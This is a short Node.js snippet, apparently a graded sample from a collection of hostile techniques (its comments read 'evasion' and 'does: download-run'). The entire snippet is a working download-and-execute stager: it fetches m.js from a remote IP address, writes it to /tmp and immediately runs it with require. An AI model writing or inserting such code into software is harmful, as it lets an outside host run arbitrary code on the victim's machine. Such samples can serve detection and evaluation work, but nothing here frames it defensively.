// evasion: a downloaded file required from /tmp
// grade: medium; does: download-run
const https = require('https'), fs = require('fs');
https.get('https://203.0.113.5/m.js', (r) => {
  r.pipe(fs.createWriteStream('/tmp/m.js')).on('finish', () => require('/tmp/m.js'));
});
